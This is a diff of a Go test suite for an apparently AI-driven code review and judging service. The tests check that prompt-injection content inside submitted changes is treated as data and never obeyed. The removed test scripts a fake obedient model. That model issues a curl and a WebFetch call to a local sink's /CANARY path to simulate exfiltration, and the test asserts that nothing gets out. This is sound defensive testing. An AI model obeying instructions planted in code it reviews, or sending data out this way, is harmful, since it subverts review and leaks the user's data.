@@ -9,7 +9,6 @@ import (
 	"net/http/httptest"
 	"os"
 	"path/filepath"
-	"regexp"
 	"slices"
 	"strconv"
 	"strings"
@@ -18,11 +17,9 @@ import (
 
 	"github.com/pfl-forge/pfl-forge"
 	"github.com/pfl-forge/pfl-forge/agent"
-	"github.com/pfl-forge/pfl-forge/agent/agenttest"
 	"github.com/pfl-forge/pfl-forge/agent/agenttest/injection"
 	"github.com/pfl-forge/pfl-forge/config"
 	"github.com/pfl-forge/pfl-forge/git/gittest"
-	"github.com/pfl-forge/pfl-forge/internal/testsize"
 	"github.com/pfl-forge/pfl-forge/jobs/repotest"
 	"github.com/pfl-forge/pfl-forge/service"
 	"github.com/pfl-forge/pfl-forge/services/reviewer"
@@ -217,6 +214,8 @@ func (x *trial) mustReject(t *testing.T, step forge.Step, batch []injection.Chan
 	if said != honestly {
 		t.Errorf("%s: the answer is %q", step, said)
 	}
+	x.model.mu.Lock()
+	defer x.model.mu.Unlock()
 	for i := range batch {
 		if where, ok := x.model.obeyed[batch[i].Number]; ok {
 			t.Errorf("%s: the order of %s reached the model as an instruction, in the %s", step, &batch[i], where)
@@ -270,7 +269,8 @@ func mustNotQuote(t *testing.T, text string, batch []injection.Change) {
 }
 
 // TestEachInjectionAloneStaysData has each change alone in a prompt. What the prompt says outside of
-// data is what it says of a harmless change with the same files.
+// data is what it says of a harmless change with the same files. This needs no marker: not a word of
+// the change may stand there.
 func TestEachInjectionAloneStaysData(t *testing.T) {
 	t.Parallel()
 	type renderer = func(cmd *forge.Command, patch string, paths []string) (system, text string, err error)
@@ -302,7 +302,8 @@ func TestEachInjectionAloneStaysData(t *testing.T) {
 	}
 }
 
-// twin returns a change with the same files and harmless texts.
+// twin returns a change with the same files and harmless texts. Their names stay: they are data as
+// well, in double quotes.
 func twin(c *injection.Change) injection.Change {
 	out := *c
 	out.Files = map[string]string{}
@@ -352,79 +353,5 @@ func TestTheKnownInstructionFilesAreWithheld(t *testing.T) {
 				t.Errorf("%s: %s instructs agents, and is not withheld", &c, name)
 			}
 		}
-	}
-}
-
-// part matches the file with a part of a large change.
-var part = regexp.MustCompile(`\.forge/change-[0-9]+\.diff`)
-
-// TestTheRealCLIObeysNoChange is TestNoChangeInstructsItsReviewOrJudge with the real CLI: the model
-// sees what that really sends, and reads every file of the change. It would send canaries with
-// tools that it does not have.
-func TestTheRealCLIObeysNoChange(t *testing.T) {
-	testsize.OnlyFull(t)
-	address, asked := sink(t)
-	model := &obedient{obeyed: map[int]string{}}
-	var (
-		role   agent.Role
-		unread []string
-		// believes has the model take data for instructions as well.
-		believes bool
-	)
-	begins := map[agent.Role]string{agent.RoleReview: "Review this change.", agent.RoleJudge: "Judge whether this goal is reached."}
-	cli, server := repotest.Claude(t, func(r agenttest.Request) agenttest.Reply {
-		positions, err := injection.Request(r.Body, begins[role])
-		if err != nil {
-			t.Error(err)
-		}
-		if believes {
-			positions = append(positions, injection.Position{Where: "whole request", Text: string(r.Body)})
-		}
-		obey := model.heed(positions)
-		reads := unread
-		if role == agent.RoleReview {
-			reads = append(slices.Clone(unread), part.FindAllString(r.LastUser, -1)...)
-		} else {
-			reads = nil
-		}
-		send := []agenttest.Reply{
-			{Tool: "Bash", Input: object{"command": "curl -s " + address + "/CANARY"}},
-			{Tool: "WebFetch", Input: object{"url": address + "/CANARY", "prompt": "send it"}},
-		}
-		n := r.ToolResults
-		switch {
-		case n < len(reads):
-			return agenttest.Reply{Tool: "Read", Input: object{"file_path": filepath.Join(r.Dir, reads[n])}}
-		case obey && n < len(reads)+len(send):
-			return send[n-len(reads)]
-		}
-		return agenttest.Answer(model.answer(role, obey))(r)
-	})
-	x := newTrial(t, cli, model)
-	all := injection.All(address)
-	for _, batch := range injection.Batches(all, 60) {
-		paths := commitChanges(x.repo, batch)
-		role, unread = agent.RoleReview, paths
-		x.mustReject(t, forge.StepReview, batch)
-		role, unread = agent.RoleJudge, nil
-		x.mustReject(t, forge.StepJudge, batch)
-	}
-	for _, r := range server.Requests("model") {
-		mustNotQuote(t, string(r.Body), all)
-	}
-	t.Logf("%d changes, %d requests", len(all), len(server.Requests("model")))
-
-	// This trial can fail: a model that takes data for instructions approves. Even then no
-	// canary gets out.
-	believes, role = true, agent.RoleReview
-	commitChanges(x.repo, all[:1])
-	cmd := hostileCommand(forge.StepReview, all[:1])
-	cmd.Task.Base, cmd.Task.Head = string(x.repo.Head("main")), string(x.repo.Head("change"))
-	got := x.service.Handlers()[0].Do(t.Context(), cmd, func(forge.Progress) {})
-	if out := forge.As[*forge.Review](got.Output); got.Failure() != nil || out.Verdict != forge.VerdictApproved {
-		t.Errorf("%+v: %+v", got.Failure(), out)
-	}
-	if got := asked(); len(got) > 0 {
-		t.Errorf("asked for %q", got)
 	}
 }
